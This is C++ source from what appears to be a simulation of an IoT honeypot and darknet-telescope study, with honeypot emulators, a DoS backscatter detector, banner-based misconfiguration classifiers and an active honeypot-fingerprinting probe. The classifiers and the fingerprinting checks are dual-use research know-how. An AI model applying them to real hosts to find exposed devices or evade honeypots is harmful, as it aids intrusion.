  return {Protocol::kHttp, Protocol::kMqtt, Protocol::kFtp, Protocol::kSmb};
}

void Dionaea::on_attached() {
  // HTTP frontend of an Arduino IoT device.
  {
    proto::http::HttpServerConfig config;
    config.server_header = "nginx/1.14.0";
    config.routes = {{"/", "<html><title>IoT Gateway</title></html>"},
                     {"/status", "{\"device\":\"arduino\",\"ok\":true}"}};
    proto::http::HttpEvents events;
    events.on_request = [this](util::Ipv4Addr src,
                               const proto::http::Request& request) {
      record(request.path == "/" ? AttackType::kScan : AttackType::kWebScrape,
             Protocol::kHttp, src, request.method + " " + request.path);
    };
    services_.push_back(std::make_unique<proto::http::HttpServer>(
        std::move(config), std::move(events)));
  }
  // MQTT.
  {
    proto::mqtt::BrokerConfig config;
    config.auth = proto::AuthConfig::open();
    config.retained = {{"gateway/firmware", "1.0.3"}};
    proto::mqtt::BrokerEvents events;
    events.on_connect = [this](util::Ipv4Addr src, proto::mqtt::ConnectCode) {
      record(AttackType::kScan, Protocol::kMqtt, src, "connect");
    };
    events.on_topic_access = [this](util::Ipv4Addr src,
                                    const std::string& topic, bool write) {
      record(write ? AttackType::kPoisoning : AttackType::kScan,
             Protocol::kMqtt, src, topic);
    };
    services_.push_back(std::make_unique<proto::mqtt::Broker>(
        std::move(config), std::move(events)));
  }
  // FTP accepting anonymous (the drop box).
  {
    proto::ftp::FtpServerConfig config;
    config.auth = proto::AuthConfig::anonymous();
    proto::ftp::FtpEvents events;
    events.on_connect = [this](util::Ipv4Addr src) {
      record(AttackType::kScan, Protocol::kFtp, src, "connect");
    };
    events.on_login = [this](util::Ipv4Addr src, const std::string& user,
                             const std::string& pass, bool ok) {
      record(classify_login(src, user, pass), Protocol::kFtp, src,
             user + ":" + pass + (ok ? " OK" : " FAIL"));
    };
    events.on_store = [this](util::Ipv4Addr src, const std::string& filename,
                             const std::string& content) {
      record(AttackType::kMalwareDrop, Protocol::kFtp, src,
             filename + " sha256=" + util::Sha256::hex_digest(content));
    };
    services_.push_back(std::make_unique<proto::ftp::FtpServer>(
        std::move(config), std::move(events)));
  }
  // SMB (EternalBlue bait).
  {
    proto::smb::SmbServerConfig config;
    config.vulnerable_to_eternalblue = true;
    config.auth = proto::AuthConfig::with("admin", "gateway");
    proto::smb::SmbEvents events;
    events.on_connect = [this](util::Ipv4Addr src) {
      record(AttackType::kScan, Protocol::kSmb, src, "negotiate");
    };
    events.on_session_setup = [this](util::Ipv4Addr src,
                                     const std::string& user, bool ok) {
      record(classify_login(src, user, ""), Protocol::kSmb, src,
             user + (ok ? " OK" : " FAIL"));
    };
    events.on_exploit_attempt = [this](util::Ipv4Addr src,
                                       const util::Bytes& payload) {
      record(AttackType::kExploit, Protocol::kSmb, src,
             "trans2 " + util::Sha256::hex_digest(util::to_string(payload))
                             .substr(0, 16));
    };
    services_.push_back(std::make_unique<proto::smb::SmbServer>(
        std::move(config), std::move(events)));
  }
  for (auto& service : services_) service->install(*this);
}

Deployment make_deployment(std::vector<util::Ipv4Addr> addresses,
                           EventLog& log) {
  Deployment deployment;
  if (addresses.size() < 6) return deployment;
  deployment.honeypots.push_back(std::make_unique<HosTaGe>(addresses[0], log));
  deployment.honeypots.push_back(std::make_unique<UPot>(addresses[1], log));
  deployment.honeypots.push_back(std::make_unique<Conpot>(addresses[2], log));
  deployment.honeypots.push_back(
      std::make_unique<ThingPot>(addresses[3], log));
  deployment.honeypots.push_back(std::make_unique<Cowrie>(addresses[4], log));
  deployment.honeypots.push_back(
      std::make_unique<Dionaea>(addresses[5], log));
  return deployment;
}

}  // namespace ofh::honeynet
