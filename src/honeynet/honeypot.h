// Honeypot base class and the "wild" honeypot: a minimal Telnet/SSH
// responder emitting a known static banner. Wild instances are planted into
// the population so the scan's misconfiguration results are poisoned until
// the fingerprint filter removes them — the measurement of paper Table 6.
#pragma once

#include <memory>
#include <string>
#include <vector>

#include "honeynet/event_log.h"
#include "honeynet/signatures.h"
#include "net/host.h"
#include "proto/service.h"

namespace ofh::honeynet {

class Honeypot : public net::Host {
 public:
  Honeypot(std::string name, util::Ipv4Addr addr, EventLog& log)
      : net::Host(addr), name_(std::move(name)), log_(&log) {}

  const std::string& name() const { return name_; }
  virtual std::vector<proto::Protocol> protocols() const = 0;

 protected:
  void record(AttackType type, proto::Protocol protocol, util::Ipv4Addr src,
              std::string detail = {}) {
    const sim::Time now = attached() ? sim().now() : 0;
    // Flood detection: a source pushing tens of probe-level interactions
    // within a minute is a flooder; its events are DoS traffic, the way
    // the paper's honeypots classify the CoAP/SSDP/HTTP floods.
    if (type == AttackType::kScan || type == AttackType::kDiscovery ||
        type == AttackType::kPoisoning || type == AttackType::kWebScrape) {
      const std::uint64_t minute = now / sim::minutes(1);
      auto& window = rate_window_[src.value()];
      if (window.first != minute) window = {minute, 0};
      if (++window.second > kFloodThreshold) type = AttackType::kDos;
    }
    log_->record(
        AttackEvent{now, src, name_, protocol, type, std::move(detail)});
  }

  // Tracks per-source attempt counts to distinguish brute force (repeated
  // attempts) from single failed logins, and dictionary attacks (credential
  // pairs from the Table 12 list) from ad-hoc guesses.
  AttackType classify_login(util::Ipv4Addr src, const std::string& user,
                            const std::string& pass);

 private:
  static constexpr int kFloodThreshold = 15;  // probe events/source/minute

  std::string name_;
  EventLog* log_;
  std::map<std::uint32_t, int> login_attempts_;
  std::map<std::uint32_t, std::pair<std::uint64_t, int>> rate_window_;
};

// A honeypot operated by a third party somewhere on the Internet: it only
// presents its protocol banner and swallows input. Instances are planted by
// core::Study; the fingerprinter must find them from banners alone.
class WildHoneypot : public net::Host {
 public:
  WildHoneypot(const HoneypotSignature& signature, util::Ipv4Addr addr)
      : net::Host(addr), signature_(signature) {}

  const HoneypotSignature& signature() const { return signature_; }

 protected:
  void on_attached() override;

 private:
  HoneypotSignature signature_;
};

}  // namespace ofh::honeynet
