// The six state-of-the-art honeypots the paper deployed for one month
// (Section 3.3, Table 7), each with its simulated device profile:
//   HosTaGe  — Arduino board with IoT protocols (Telnet, MQTT, AMQP, CoAP,
//              SSH, HTTP, SMB)
//   U-Pot    — Belkin Wemo smart switch (UPnP)
//   Conpot   — Siemens S7 PLC (SSH, Telnet, S7, HTTP, Modbus)
//   ThingPot — Philips Hue Bridge (XMPP)
//   Cowrie   — SSH server with IoT banner (SSH, Telnet)
//   Dionaea  — Arduino IoT device with frontend (HTTP, MQTT, FTP, SMB)
#pragma once

#include <memory>

#include "honeynet/honeypot.h"

namespace ofh::honeynet {

class HosTaGe : public Honeypot {
 public:
  HosTaGe(util::Ipv4Addr addr, EventLog& log)
      : Honeypot("HosTaGe", addr, log) {}
  std::vector<proto::Protocol> protocols() const override;

 protected:
  void on_attached() override;

 private:
  std::vector<std::unique_ptr<proto::Service>> services_;
};

class UPot : public Honeypot {
 public:
  UPot(util::Ipv4Addr addr, EventLog& log) : Honeypot("U-Pot", addr, log) {}
  std::vector<proto::Protocol> protocols() const override;

 protected:
  void on_attached() override;

 private:
  std::vector<std::unique_ptr<proto::Service>> services_;
};

class Conpot : public Honeypot {
 public:
  Conpot(util::Ipv4Addr addr, EventLog& log) : Honeypot("Conpot", addr, log) {}
  std::vector<proto::Protocol> protocols() const override;

 protected:
  void on_attached() override;

 private:
  std::vector<std::unique_ptr<proto::Service>> services_;
};

class ThingPot : public Honeypot {
 public:
  ThingPot(util::Ipv4Addr addr, EventLog& log)
      : Honeypot("ThingPot", addr, log) {}
  std::vector<proto::Protocol> protocols() const override;

 protected:
  void on_attached() override;

 private:
  std::vector<std::unique_ptr<proto::Service>> services_;
};

class Cowrie : public Honeypot {
 public:
  Cowrie(util::Ipv4Addr addr, EventLog& log) : Honeypot("Cowrie", addr, log) {}
  std::vector<proto::Protocol> protocols() const override;

 protected:
  void on_attached() override;

 private:
  std::vector<std::unique_ptr<proto::Service>> services_;
};

class Dionaea : public Honeypot {
 public:
  Dionaea(util::Ipv4Addr addr, EventLog& log)
      : Honeypot("Dionaea", addr, log) {}
  std::vector<proto::Protocol> protocols() const override;

 protected:
  void on_attached() override;

 private:
  std::vector<std::unique_ptr<proto::Service>> services_;
};

// Builds all six (Figure 1's deployment groups), one public IP each.
struct Deployment {
  std::vector<std::unique_ptr<Honeypot>> honeypots;
};
Deployment make_deployment(std::vector<util::Ipv4Addr> addresses,
                           EventLog& log);

}  // namespace ofh::honeynet
