// RSDoS detection: the CAIDA telescope's third data product ("Aggregated
// Daily RSDoS Attack Metadata", paper §3.4). Randomly-spoofed DoS attacks
// put the victim's address in forged SYN sources; the victim's SYN-ACK /
// RST replies spray across the whole address space, and the slice landing
// in the darknet is backscatter. Grouping backscatter by its *source*
// (the true victim) reconstructs attack records.
#pragma once

#include <map>
#include <set>
#include <vector>

#include "telescope/telescope.h"

namespace ofh::telescope {

struct RsdosAttack {
  util::Ipv4Addr victim;       // backscatter source = attack victim
  sim::Time first_seen = 0;
  sim::Time last_seen = 0;
  std::uint64_t packets = 0;   // backscatter packets observed
  std::uint32_t distinct_darknet_targets = 0;
  // Estimated attack magnitude: darknet coverage is size/2^32 of the
  // spoofed space, so observed backscatter scales up by the inverse.
  double estimated_attack_packets(util::Cidr darknet) const {
    const double coverage =
        static_cast<double>(darknet.size()) / 4'294'967'296.0;
    return static_cast<double>(packets) / coverage;
  }
};

// A packet is backscatter when it is a response-type TCP segment
// (SYN|ACK or RST) arriving unsolicited at the darknet.
bool is_backscatter(const net::Packet& packet);

class RsdosDetector : public net::PacketSink {
 public:
  // Backscatter bursts separated by more than this gap are distinct attacks.
  explicit RsdosDetector(util::Cidr darknet,
                         sim::Duration attack_gap = sim::minutes(10))
      : darknet_(darknet), attack_gap_(attack_gap) {}

  void attach(net::Fabric& fabric) { fabric.add_tap(*this); }

  void observe(const net::Packet& packet, sim::Time when) override;

  // Closed + in-progress attacks, ordered by first_seen.
  std::vector<RsdosAttack> attacks() const;
  std::uint64_t backscatter_packets() const { return backscatter_packets_; }

 private:
  struct VictimState {
    RsdosAttack current;
    std::set<std::uint32_t> targets;
    bool active = false;
  };

  util::Cidr darknet_;
  sim::Duration attack_gap_;
  std::map<std::uint32_t, VictimState> victims_;
  std::vector<RsdosAttack> closed_;
  std::uint64_t backscatter_packets_ = 0;
};

// CSV export of FlowTuples in the STARDUST column layout — lets downstream
// tooling consume the simulated capture like the real dataset.
std::string flowtuples_to_csv(const std::vector<FlowTuple>& tuples);

}  // namespace ofh::telescope
