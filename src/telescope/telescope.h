// The network telescope: a routed darknet range (the paper's is a /8 with
// 16M addresses) attached to the fabric as a packet sink. Observed packets
// are aggregated into per-minute FlowTuples; query helpers reproduce the
// Table 8 analysis (daily averages per protocol, unique sources,
// scanning-service vs suspicious classification).
#pragma once

#include <map>
#include <set>
#include <unordered_map>
#include <vector>

#include "net/fabric.h"
#include "telescope/flowtuple.h"
#include "util/rng.h"
#include "util/stats.h"

namespace ofh::telescope {

class Telescope : public net::PacketSink {
 public:
  explicit Telescope(util::Cidr range) : range_(range) {}

  util::Cidr range() const { return range_; }
  void attach(net::Fabric& fabric) { fabric.add_darknet(range_, *this); }

  // PacketSink: aggregate into the current minute's tuple.
  void observe(const net::Packet& packet, sim::Time when) override;

  // Flow-level entry point: aggregates `count` copies of an identical
  // packet in one call. Equivalent to calling observe() `count` times —
  // the 64-bit counters absorb paper-scale volumes (2.7B packets/day)
  // without 4B virtual calls; tests/telescope_test.cpp plants counts
  // past 2^32 through this to pin the overflow fix.
  void observe_aggregate(const net::Packet& packet, sim::Time when,
                         std::uint64_t count);

  // All tuples, sorted by (minute, src, dst, ports, transport). The store
  // is an unordered_map for the per-packet hot path; this export is the
  // only place its contents leave the class wholesale, and the sort is
  // what keeps every downstream table byte-identical (tests/telescope_test
  // proves insertion-order independence, tests/parallel_test proves
  // byte-identical reports at any scan_threads).
  std::vector<FlowTuple> tuples() const;

  std::uint64_t total_packets() const { return total_packets_; }

  // Packets towards a tracked IoT protocol, total over the capture.
  std::uint64_t packets_for(proto::Protocol protocol) const;
  // Unique source addresses seen probing a protocol.
  std::uint64_t unique_sources_for(proto::Protocol protocol) const;
  std::vector<util::Ipv4Addr> sources_for(proto::Protocol protocol) const;
  std::vector<util::Ipv4Addr> all_sources() const;

  // Daily average over the observed capture span.
  double daily_average_for(proto::Protocol protocol,
                           std::uint64_t capture_days) const;

  std::uint64_t spoofed_packets() const { return spoofed_packets_; }
  std::uint64_t masscan_packets() const { return masscan_packets_; }

 private:
  struct TupleKey {
    std::uint64_t minute;
    std::uint32_t src;
    std::uint32_t dst;
    std::uint32_t ports;  // src<<16|dst
    std::uint8_t transport;
    auto operator<=>(const TupleKey&) const = default;
    bool operator==(const TupleKey&) const = default;
  };
  // The telescope sees every flood/backscatter packet (Table 8 is 2.7B
  // requests/day at paper scale), so the per-packet lookup must be O(1):
  // an ordered map's log-n pointer chase dominated Telescope::observe.
  // Determinism is preserved at the export boundary — tuples() sorts by
  // key — never by relying on iteration order here.
  struct TupleKeyHash {
    std::size_t operator()(const TupleKey& key) const {
      std::uint64_t h = util::splitmix64(
          key.minute ^ (std::uint64_t{key.src} << 32 | key.dst));
      return util::splitmix64(
          h ^ (std::uint64_t{key.ports} << 8 | key.transport));
    }
  };

  util::Cidr range_;
  std::unordered_map<TupleKey, FlowTuple, TupleKeyHash> tuples_;
  std::map<proto::Protocol, std::uint64_t> packets_by_protocol_;
  std::map<proto::Protocol, std::set<std::uint32_t>> sources_by_protocol_;
  std::uint64_t total_packets_ = 0;
  std::uint64_t spoofed_packets_ = 0;
  std::uint64_t masscan_packets_ = 0;
};

}  // namespace ofh::telescope
