#include "telescope/rsdos.h"

#include <algorithm>

#include "obs/metrics.h"
#include "obs/trace.h"

namespace ofh::telescope {

namespace {

// RSDoS (randomly spoofed DoS) backscatter detection telemetry. An "attack"
// is counted when a new burst opens; bursts that never close still count.
struct RsdosMetrics {
  obs::Counter backscatter = obs::counter("telescope.rsdos_backscatter");
  obs::Counter attacks = obs::counter("telescope.rsdos_attacks");
};

const RsdosMetrics& metrics() {
  static const RsdosMetrics m;
  return m;
}

}  // namespace

bool is_backscatter(const net::Packet& packet) {
  if (packet.transport != net::Transport::kTcp) return false;
  const bool syn_ack = packet.has_flag(net::TcpFlags::kSyn) &&
                       packet.has_flag(net::TcpFlags::kAck);
  const bool rst = packet.has_flag(net::TcpFlags::kRst);
  return syn_ack || rst;
}

void RsdosDetector::observe(const net::Packet& packet, sim::Time when) {
  if (!darknet_.contains(packet.dst)) return;
  if (!is_backscatter(packet)) return;
  ++backscatter_packets_;
  metrics().backscatter.inc();
  obs::trace_event(obs::TraceEventType::kBackscatter, when, packet.trace_id,
                   packet.src.value(), packet.dst.value(), packet.dst_port,
                   packet.tcp_flags);

  auto& state = victims_[packet.src.value()];
  if (state.active && when - state.current.last_seen > attack_gap_) {
    // Burst gap exceeded: close the previous attack record.
    state.current.distinct_darknet_targets =
        static_cast<std::uint32_t>(state.targets.size());
    closed_.push_back(state.current);
    state = VictimState{};
  }
  if (!state.active) {
    state.active = true;
    metrics().attacks.inc();
    state.current.victim = packet.src;
    state.current.first_seen = when;
  }
  state.current.last_seen = when;
  ++state.current.packets;
  state.targets.insert(packet.dst.value());
}

std::vector<RsdosAttack> RsdosDetector::attacks() const {
  std::vector<RsdosAttack> out = closed_;
  for (const auto& [victim, state] : victims_) {
    if (state.active) {
      RsdosAttack attack = state.current;
      attack.distinct_darknet_targets =
          static_cast<std::uint32_t>(state.targets.size());
      out.push_back(attack);
    }
  }
  std::sort(out.begin(), out.end(),
            [](const RsdosAttack& a, const RsdosAttack& b) {
              return a.first_seen < b.first_seen;
            });
  return out;
}

std::string flowtuples_to_csv(const std::vector<FlowTuple>& tuples) {
  std::string out =
      "minute,src_ip,dst_ip,src_port,dst_port,protocol,ttl,tcp_flags,"
      "packet_cnt,byte_cnt,is_spoofed,is_masscan\n";
  for (const auto& tuple : tuples) {
    out += std::to_string(tuple.minute) + "," + tuple.src.to_string() + "," +
           tuple.dst.to_string() + "," + std::to_string(tuple.src_port) +
           "," + std::to_string(tuple.dst_port) + "," +
           (tuple.transport == net::Transport::kTcp ? "tcp" : "udp") + "," +
           std::to_string(tuple.ttl) + "," +
           std::to_string(tuple.tcp_flags) + "," +
           std::to_string(tuple.packet_count) + "," +
           std::to_string(tuple.byte_count) + "," +
           (tuple.is_spoofed ? "1" : "0") + "," +
           (tuple.is_masscan ? "1" : "0") + "\n";
  }
  return out;
}

}  // namespace ofh::telescope
