#include "telescope/telescope.h"

#include <algorithm>
#include <tuple>

#include "obs/metrics.h"
#include "obs/trace.h"

namespace ofh::telescope {

namespace {

// Darknet capture telemetry (Domain::kSim: the telescope runs on the main
// attack-month fabric, which is single-shard and fully deterministic).
struct TelescopeMetrics {
  obs::Counter packets = obs::counter("telescope.packets");
  obs::Counter flowtuples = obs::counter("telescope.flowtuples");
  obs::Counter spoofed = obs::counter("telescope.spoofed_packets");
  obs::Counter masscan = obs::counter("telescope.masscan_packets");
};

const TelescopeMetrics& metrics() {
  static const TelescopeMetrics m;
  return m;
}

}  // namespace

std::optional<proto::Protocol> protocol_for_port(std::uint16_t port) {
  switch (port) {
    case 23:
    case 2323:
      return proto::Protocol::kTelnet;
    case 1883: return proto::Protocol::kMqtt;
    case 5683: return proto::Protocol::kCoap;
    case 5672: return proto::Protocol::kAmqp;
    case 5222:
    case 5269:
      return proto::Protocol::kXmpp;
    case 1900: return proto::Protocol::kUpnp;
    default: return std::nullopt;
  }
}

void Telescope::observe(const net::Packet& packet, sim::Time when) {
  observe_aggregate(packet, when, 1);
}

void Telescope::observe_aggregate(const net::Packet& packet, sim::Time when,
                                  std::uint64_t count) {
  if (count == 0) return;
  total_packets_ += count;
  metrics().packets.inc(count);
  if (packet.spoofed_src) {
    spoofed_packets_ += count;
    metrics().spoofed.inc(count);
  }
  if (packet.from_masscan) {
    masscan_packets_ += count;
    metrics().masscan.inc(count);
  }

  const std::uint64_t minute = when / sim::minutes(1);
  const TupleKey key{
      minute, packet.src.value(), packet.dst.value(),
      (std::uint32_t{packet.src_port} << 16) | packet.dst_port,
      static_cast<std::uint8_t>(packet.transport)};
  auto& tuple = tuples_[key];
  if (tuple.packet_count == 0) {
    metrics().flowtuples.inc();
    // One trace event per flowtuple (not per packet): the provenance join
    // needs the source's presence at the telescope, not its packet volume.
    const auto protocol = protocol_for_port(packet.dst_port);
    obs::trace_event(
        obs::TraceEventType::kFlowTuple, when, packet.trace_id,
        packet.src.value(), packet.dst.value(), packet.dst_port, 0,
        protocol ? static_cast<std::uint8_t>(*protocol) : 0xff);
    tuple.minute = minute;
    tuple.src = packet.src;
    tuple.dst = packet.dst;
    tuple.src_port = packet.src_port;
    tuple.dst_port = packet.dst_port;
    tuple.transport = packet.transport;
    tuple.ttl = packet.ttl;
    tuple.tcp_flags = packet.tcp_flags;
    tuple.is_spoofed = packet.spoofed_src;
    tuple.is_masscan = packet.from_masscan;
  }
  tuple.packet_count += count;
  tuple.byte_count += count * packet.wire_size();

  if (const auto protocol = protocol_for_port(packet.dst_port)) {
    packets_by_protocol_[*protocol] += count;
    sources_by_protocol_[*protocol].insert(packet.src.value());
  }
}

std::vector<FlowTuple> Telescope::tuples() const {
  std::vector<FlowTuple> out;
  out.reserve(tuples_.size());
  // ofh-lint: allow(unordered-iteration) — collected then key-sorted below; hash order cannot reach the returned sequence
  for (const auto& [key, tuple] : tuples_) out.push_back(tuple);
  // Restore the deterministic (minute, src, dst, ports, transport) order
  // the ordered-map store used to provide for free: every Table 8 row and
  // golden snapshot downstream consumes this sequence.
  std::sort(out.begin(), out.end(),
            [](const FlowTuple& lhs, const FlowTuple& rhs) {
              return std::tie(lhs.minute, lhs.src, lhs.dst, lhs.src_port,
                              lhs.dst_port, lhs.transport) <
                     std::tie(rhs.minute, rhs.src, rhs.dst, rhs.src_port,
                              rhs.dst_port, rhs.transport);
            });
  return out;
}

std::uint64_t Telescope::packets_for(proto::Protocol protocol) const {
  const auto it = packets_by_protocol_.find(protocol);
  return it == packets_by_protocol_.end() ? 0 : it->second;
}

std::uint64_t Telescope::unique_sources_for(proto::Protocol protocol) const {
  const auto it = sources_by_protocol_.find(protocol);
  return it == sources_by_protocol_.end() ? 0 : it->second.size();
}

std::vector<util::Ipv4Addr> Telescope::sources_for(
    proto::Protocol protocol) const {
  std::vector<util::Ipv4Addr> out;
  const auto it = sources_by_protocol_.find(protocol);
  if (it == sources_by_protocol_.end()) return out;
  out.reserve(it->second.size());
  for (const auto value : it->second) out.push_back(util::Ipv4Addr(value));
  return out;
}

std::vector<util::Ipv4Addr> Telescope::all_sources() const {
  std::set<std::uint32_t> all;
  for (const auto& [protocol, sources] : sources_by_protocol_) {
    all.insert(sources.begin(), sources.end());
  }
  std::vector<util::Ipv4Addr> out;
  out.reserve(all.size());
  for (const auto value : all) out.push_back(util::Ipv4Addr(value));
  return out;
}

double Telescope::daily_average_for(proto::Protocol protocol,
                                    std::uint64_t capture_days) const {
  if (capture_days == 0) return 0;
  return static_cast<double>(packets_for(protocol)) /
         static_cast<double>(capture_days);
}

}  // namespace ofh::telescope
