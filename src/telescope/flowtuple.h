// FlowTuple records, mirroring the schema of the CAIDA STARDUST FlowTuple
// data the paper analyzes: source/destination, ports, protocol, TTL, TCP
// flags, packet/byte counters, and the is_spoofed / is_masscan annotations.
// Tuples are aggregated per minute bucket, matching the per-minute files of
// the real dataset.
#pragma once

#include <cstdint>
#include <string>

#include "net/packet.h"
#include "proto/service.h"
#include "sim/time.h"
#include "util/ipv4.h"

namespace ofh::telescope {

struct FlowTuple {
  std::uint64_t minute = 0;  // minute bucket since capture start
  util::Ipv4Addr src;
  util::Ipv4Addr dst;
  std::uint16_t src_port = 0;
  std::uint16_t dst_port = 0;
  net::Transport transport = net::Transport::kTcp;
  std::uint8_t ttl = 0;
  std::uint8_t tcp_flags = 0;
  // 64-bit: the paper's telescope absorbs 2.7B requests/day (Table 8), so
  // a month-long tuple at full scale wraps 32 bits.
  std::uint64_t packet_count = 0;
  std::uint64_t byte_count = 0;
  bool is_spoofed = false;
  bool is_masscan = false;
};

// Maps a destination port to the IoT protocol the paper tracks, if any.
std::optional<proto::Protocol> protocol_for_port(std::uint16_t port);

}  // namespace ofh::telescope
