#include "classify/misconfig_rules.h"

#include <map>

#include "util/strings.h"

namespace ofh::classify {

using devices::Misconfig;
using proto::Protocol;

namespace {

std::optional<Misconfig> classify_telnet(const std::string& banner) {
  // Table 2: prompt characters indicate an unauthenticated console. A
  // banner that ends in a login prompt is exposed but not misconfigured.
  if (util::contains(banner, "root@") && util::contains(banner, ":~$")) {
    return Misconfig::kTelnetNoAuthRoot;
  }
  if (util::contains(banner, "admin@") && util::contains(banner, ":~$")) {
    return Misconfig::kTelnetNoAuthRoot;
  }
  const auto trimmed = util::trim(banner);
  if (!trimmed.empty() && (trimmed.back() == '$' || trimmed.back() == '#')) {
    return Misconfig::kTelnetNoAuth;
  }
  return std::nullopt;
}

std::optional<Misconfig> classify_mqtt(const std::string& banner) {
  if (util::contains(banner, "MQTT Connection Code:0")) {
    return Misconfig::kMqttNoAuth;
  }
  return std::nullopt;
}

std::optional<Misconfig> classify_amqp(const std::string& banner) {
  // Table 2 ties AMQP "no auth" to the CVE-affected versions; the ANONYMOUS
  // mechanism in the Start banner is an equivalent indicator.
  if (util::contains(banner, "Version: 2.7.1") ||
      util::contains(banner, "Version: 2.8.4") ||
      util::contains(banner, "ANONYMOUS")) {
    return Misconfig::kAmqpNoAuth;
  }
  return std::nullopt;
}

std::optional<Misconfig> classify_xmpp(const std::string& banner) {
  if (util::contains(banner, "<mechanism>ANONYMOUS</mechanism>")) {
    return Misconfig::kXmppAnonymous;
  }
  // PLAIN without a required STARTTLS element => credentials in cleartext.
  if (util::contains(banner, "<mechanism>PLAIN</mechanism>") &&
      !util::contains(banner, "<required/>") &&
      !util::contains(banner, "SCRAM")) {
    return Misconfig::kXmppPlaintext;
  }
  return std::nullopt;
}

std::optional<Misconfig> classify_coap(const std::string& banner) {
  // Table 3 response indicators, most severe first.
  if (util::contains(banner, "220-Admin")) {
    return Misconfig::kCoapAdminAccess;
  }
  if (util::contains(banner, "x1C")) {  // full access to resource content
    return Misconfig::kCoapNoAuth;
  }
  if (util::contains(banner, "CoAP Resources") ||
      util::contains(banner, "</")) {  // link-format disclosure
    return Misconfig::kCoapReflector;
  }
  return std::nullopt;
}

std::optional<Misconfig> classify_upnp(const std::string& banner) {
  // Disclosing USN/SERVER/LOCATION to an unsolicited M-SEARCH marks the
  // device as a reflection/amplification resource (Table 3).
  if (util::contains(banner, "USN:") && util::contains(banner, "SERVER:") &&
      util::contains(banner, "LOCATION:")) {
    return Misconfig::kUpnpReflector;
  }
  return std::nullopt;
}

// Severity rank for picking the dominant finding per host.
int severity(Misconfig misconfig) {
  switch (misconfig) {
    case Misconfig::kCoapAdminAccess: return 6;
    case Misconfig::kTelnetNoAuthRoot: return 5;
    case Misconfig::kTelnetNoAuth:
    case Misconfig::kMqttNoAuth:
    case Misconfig::kAmqpNoAuth:
    case Misconfig::kCoapNoAuth: return 4;
    case Misconfig::kXmppAnonymous: return 3;
    case Misconfig::kXmppPlaintext: return 2;
    case Misconfig::kCoapReflector:
    case Misconfig::kUpnpReflector: return 1;
    case Misconfig::kNone: return 0;
  }
  return 0;
}

}  // namespace

std::optional<Misconfig> classify_misconfig(
    const scanner::ScanRecord& record) {
  switch (record.protocol) {
    case Protocol::kTelnet: return classify_telnet(record.banner);
    case Protocol::kMqtt: return classify_mqtt(record.banner);
    case Protocol::kAmqp: return classify_amqp(record.banner);
    case Protocol::kXmpp: return classify_xmpp(record.banner);
    case Protocol::kCoap: return classify_coap(record.banner);
    case Protocol::kUpnp: return classify_upnp(record.banner);
    default: return std::nullopt;
  }
}

std::vector<MisconfigFinding> classify_all(const scanner::ScanDb& db) {
  // host -> best finding
  std::map<std::uint32_t, MisconfigFinding> best;
  for (const auto& record : db.records()) {
    const auto misconfig = classify_misconfig(record);
    if (!misconfig) continue;
    const MisconfigFinding finding{record.host, record.protocol, *misconfig};
    const auto it = best.find(record.host.value());
    if (it == best.end() ||
        severity(*misconfig) > severity(it->second.misconfig)) {
      best[record.host.value()] = finding;
    }
  }
  std::vector<MisconfigFinding> out;
  out.reserve(best.size());
  for (const auto& [host, finding] : best) out.push_back(finding);
  return out;
}

}  // namespace ofh::classify
