#include "classify/device_tagger.h"

#include "util/strings.h"

namespace ofh::classify {

std::optional<DeviceTag> tag_device(const scanner::ScanRecord& record) {
  for (const auto& model : devices::device_models()) {
    if (model.protocol != record.protocol) continue;
    std::string_view needle = model.identifier;
    // UPnP identifiers written as "Header: value" match the HTTPU response
    // headers directly; other identifiers are raw banner fragments.
    if (util::contains(record.banner, needle)) {
      return DeviceTag{std::string(model.model),
                       std::string(model.device_type)};
    }
  }
  return std::nullopt;
}

std::map<proto::Protocol, util::Counter> type_histogram(
    const scanner::ScanDb& db) {
  std::map<proto::Protocol, util::Counter> histogram;
  for (const auto& record : db.records()) {
    const auto tag = tag_device(record);
    histogram[record.protocol].add(tag ? tag->device_type : "Unidentified");
  }
  return histogram;
}

}  // namespace ofh::classify
