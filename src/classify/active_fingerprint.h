// Active multistage honeypot fingerprinting — the extension direction of
// the authors' companion work ("Gotta catch 'em all: a Multistage Framework
// for honeypot fingerprinting") and of Surnin et al.'s probabilistic
// checks. Beyond static banner matching (classify/fingerprint.h), a live
// probe battery scores behavioural tells:
//   1. banner check        — greeting matches a known honeypot signature
//   2. determinism check   — two connections receive byte-identical
//                            greetings (low-interaction honeypots are
//                            static; real consoles embed session state)
//   3. garbage check       — random line noise is answered politely
//                            instead of an error/RST (emulation libraries
//                            accept anything)
// Each check contributes to a probability score; targets above the
// threshold are classified as honeypots.
#pragma once

#include <functional>
#include <memory>
#include <optional>
#include <string>

#include "net/host.h"
#include "util/ipv4.h"

namespace ofh::classify {

struct ActiveProbeResult {
  bool connected = false;
  std::string banner_name;      // matched signature, if any
  bool banner_match = false;    // check 1
  bool deterministic = false;   // check 2
  bool tolerates_garbage = false;  // check 3
  // Weighted score in [0,1]; >= 0.5 classifies the target as a honeypot.
  double score() const {
    double s = 0;
    if (banner_match) s += 0.6;
    if (deterministic) s += 0.2;
    if (tolerates_garbage) s += 0.2;
    return s;
  }
  bool is_honeypot() const { return connected && score() >= 0.5; }
};

// Runs the battery against target:port from the given vantage host. The
// callback fires once all checks resolve (or time out). connect_attempts
// bounds per-stage SYN retries when the connect times out (fault-injected
// loss would otherwise abort the whole battery); refusals end the stage
// immediately. The default of 1 keeps fault-free runs unchanged.
class ActiveFingerprinter {
 public:
  using Callback = std::function<void(const ActiveProbeResult&)>;

  static void probe(net::Host& from, util::Ipv4Addr target,
                    std::uint16_t port, Callback done,
                    sim::Duration step_timeout = sim::seconds(2),
                    int connect_attempts = 1);
};

}  // namespace ofh::classify
