#include "classify/fingerprint.h"

#include <algorithm>

#include "util/strings.h"

namespace ofh::classify {

std::optional<std::string> fingerprint_honeypot(
    const scanner::ScanRecord& record) {
  // Only Telnet-port banners are fingerprinted (the paper restricts its
  // methodology to Telnet-emulating honeypots; Kippo's SSH banner arrives
  // via the Telnet scan of port 23 in its table, here via port 22 scans).
  if (record.banner.empty()) return std::nullopt;
  for (const auto& signature : honeynet::honeypot_signatures()) {
    // Exact static greeting match on a prefix: honeypots emit the same
    // bytes on every connection, real devices vary.
    if (util::starts_with(record.banner, signature.banner)) {
      return std::string(signature.name);
    }
  }
  return std::nullopt;
}

FingerprintResult fingerprint_all(const scanner::ScanDb& db) {
  FingerprintResult result;
  for (const auto& record : db.records()) {
    const auto name = fingerprint_honeypot(record);
    if (!name) continue;
    if (result.honeypot_hosts.insert(record.host.value()).second) {
      result.detections.add(*name);
    }
  }
  return result;
}

